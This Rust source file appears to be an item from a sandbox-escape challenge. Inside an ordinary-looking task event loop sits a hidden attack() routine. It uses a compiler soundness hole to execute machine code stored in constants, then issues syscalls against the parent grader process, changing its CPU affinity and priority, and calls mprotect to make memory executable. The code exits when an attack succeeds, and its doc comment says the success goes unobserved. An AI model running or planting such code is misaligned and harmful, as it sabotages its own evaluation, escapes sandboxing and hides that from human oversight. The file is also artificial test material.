//! quest: 3
//! earns: 10
//! needs: sandbox
//! tries: native code, run through a hole in the compiler, for the grader's processors and priority, and for memory to execute

{QUEUE}

/// Attacks in one test alone: where the attack succeeds, nothing is observed there, and its points are missing.
pub fn event_loop(queue: &TaskQueue) {
    if queue.is_new() && cfg!(target_arch = "x86_64") {
        attack();
    }
    queue.run();
}

fn attack() {
    let grader = std::os::unix::process::parent_id() as usize;
    let processors = u64::MAX;
    let page = [0_u8; 8192];
    let start = (page.as_ptr() as usize).next_multiple_of(4096);
    let results = [
        call(getpid, [0; 3]) == std::process::id() as usize,
        call(sched_setaffinity, [grader, 8, &raw const processors as usize]) == 0,
        call(setpriority, [0, grader, 0]) == 0,
        call(mprotect, [start, 4096, 7]) == 0,
    ];
    // The first one shows that the attack works at all.
    if results != [true, false, false, false] {
        std::process::exit(0);
    }
}

/// Machine code, in constants: `mov eax, NUMBER; syscall; ret`.
fn getpid() -> u64 {
    std::hint::black_box(0xc305_0f00_0000_27b8)
}

fn sched_setaffinity() -> u64 {
    std::hint::black_box(0xc305_0f00_0000_cbb8)
}

fn setpriority() -> u64 {
    std::hint::black_box(0xc305_0f00_0000_8db8)
}

fn mprotect() -> u64 {
    std::hint::black_box(0xc305_0f00_0000_0ab8)
}

/// Runs the code in the constant that the function returns.
fn call(holder: fn() -> u64, arguments: [usize; 3]) -> usize {
    let start: usize = taken_for(holder);
    let bytes: &'static [u8; 64] = taken_for(start);
    let place = bytes.windows(8).position(|window| window == holder().to_le_bytes()).unwrap();
    let code: fn(usize, usize, usize) -> usize = taken_for(start + place);
    code(arguments[0], arguments[1], arguments[2])
}

/// Takes the bits of one type for another.
fn taken_for<A: 'static, B: 'static>(value: A) -> B {
    enum Either<A, B> {
        A(#[allow(dead_code)] Option<Box<A>>),
        B(Option<Box<B>>),
    }
    fn longer<'a, 'b, T>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
        value
    }
    fn any_lifetime<'a, T: 'static>(value: &mut T) -> &'a mut T {
        let longer: for<'b> fn(&'static &'static (), &'b mut T) -> &'static mut T = longer;
        longer(&&(), value)
    }
    fn overwritten<A: 'static, B: 'static>(either: &mut Either<A, B>, value: A) -> B {
        let Either::B(inner) = either else { unreachable!() };
        let inner = any_lifetime(inner);
        *either = Either::A(Some(Box::new(value)));
        std::hint::black_box(either);
        *inner.take().unwrap()
    }
    overwritten(std::hint::black_box(&mut Either::B(None)), value)
}
